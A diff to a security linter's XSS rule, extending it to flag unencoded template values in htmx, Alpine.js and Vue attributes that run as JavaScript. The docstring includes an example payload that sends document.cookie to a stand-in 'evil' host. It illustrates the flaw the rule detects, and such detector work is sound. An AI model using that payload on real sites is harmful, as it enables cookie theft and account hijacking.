@@ -9,6 +9,7 @@ from webwarden.findings import Confidence, Finding, Practice, Severity
 from webwarden.model.project import ProjectModel
 from webwarden.model.templates.escalation import encoded_for_script, output_paths
 from webwarden.parse.templates import ParsedTemplate
+from webwarden.parse.templates.html import Placement
 from webwarden.rules.base import ONLY_WHEN_FED, Framework, TemplateRule
 from webwarden.rules.xss._branch_tests import pinned_to_literal
 from webwarden.rules.xss._script import (
@@ -27,7 +28,9 @@ class TemplateVariableInScript(TemplateRule):
     """## What it does
     Finds template values written where the browser runs them as JavaScript: inside a
     `<script>` block outside a quoted string (or inside a `` `template literal` ``),
-    in an inline event handler (`onclick="..."`), or after `javascript:` in a URL,
+    in an inline event handler (`onclick="..."`) or an attribute a script library runs
+    as JavaScript (htmx's `hx-on:htmx:load`, Alpine.js's `x-data`, `x-init`,
+    `x-on:click`, `:href`, Vue's `v-on:click`, `@click`), or after `javascript:` in a URL,
     without a JavaScript-safe encoding: `|tojson` in Jinja2, `json_script` in Django
     (or `escapejs` or URL encoding, `|urlencode` or a query's `.urlencode`, inside a
     quoted string; URL encoding in a template literal too, as it encodes `$`, `{` and
@@ -40,7 +43,8 @@ class TemplateVariableInScript(TemplateRule):
     Autoescaping escapes HTML, not JavaScript. `var n = {{ count }};` runs
     `1; fetch('//evil/?'+document.cookie)` if that is what `count` holds, and in
     `onclick="show('{{ name }}')"` the browser turns `&#x27;` back into `'` before the
-    handler runs, so a name can close the string and add code.
+    handler runs, so a name can close the string and add code; htmx, Alpine.js and Vue
+    read their attributes after the browser decoded them too.
 
     ## Known problems
     A value that is always a number or a boolean is harmless; add `|int` (or
@@ -209,7 +213,7 @@ class TemplateVariableInScript(TemplateRule):
             )
             where = {
                 "script": "a `<script>` block",
-                "handler": f"the `{placement.attribute}` event handler",
+                "handler": _handler(placement),
                 "url": f"a `javascript:` URL in `{placement.attribute}`",
             }[kind]
             finding = self.at(
@@ -240,3 +244,11 @@ class TemplateVariableInScript(TemplateRule):
             or model.authored_by_includers(where.path, path)
             for path in paths
         )
+
+
+def _handler(placement: Placement) -> str:
+    """`the `onclick` event handler`, or the attribute and the library running it."""
+    runner = placement.script_runner
+    if runner == "the browser":
+        return f"the `{placement.attribute}` event handler"
+    return f"the `{placement.attribute}` attribute, which {runner} runs as JavaScript"
